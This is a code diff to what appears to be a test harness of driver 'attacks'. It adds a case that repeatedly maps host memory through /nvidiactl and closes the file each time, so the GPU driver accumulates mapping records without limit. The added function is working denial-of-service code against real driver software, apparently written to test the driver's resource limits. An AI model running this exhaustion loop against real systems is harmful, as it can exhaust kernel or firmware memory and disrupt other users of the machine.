@@ -16,6 +16,7 @@ attacks! {
     "clients without end": "rs_server.c:_serverCreateEntryAndLockForNewClient",
         Passes, Told, clients;
     "objects without end": "rs_client.c:clientAllocResource_IMPL", Passes, Told, objects;
+    "objects mapped without end": "rs_resource.c:refAddMapping", Passes, Told, mappings;
     "events without end": "event.c:eventConstruct_IMPL", Passes, Told, events;
     "the firmware's heap filled by a GPU's memory (REGISTER_MEMDESC_TO_PHYS_RM)": "mem.c:memConstructCommon_IMPL",
         Passes, Gpu, |a| known(a, 0x40, 0x1_C101, 0x1800_0000);
@@ -51,6 +52,21 @@ fn clients(attacker: &Attacker) -> Verdict {
 fn objects(attacker: &Attacker) -> Verdict {
     many(OBJECTS, "objects", |count| {
         attacker.alloc(rm::SUBDEVICE_HANDLE, OWN + count, rm::USERMODE, &mut [])
+    })
+}
+
+/// Maps a page of host memory, each time by a file that is closed. The driver keeps a record.
+fn mappings(attacker: &Attacker) -> Verdict {
+    let made = attacker.client.system_page(OWN);
+    attacker.prepare("host memory", made)?;
+    let path = format!("{}/nvidiactl", attacker.folder);
+    let names = (attacker.client.handle, rm::DEVICE_HANDLE, OWN);
+    many(OBJECTS, "mappings", |_| {
+        let fd = sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC);
+        let fd = attacker.prepare(&path, fd)?;
+        let mapped = rm::map(attacker.client.ctl, names, 4096, rm::MAP_OF_MEMORY, fd);
+        let _ = sys::close(fd);
+        told(mapped)
     })
 }
 
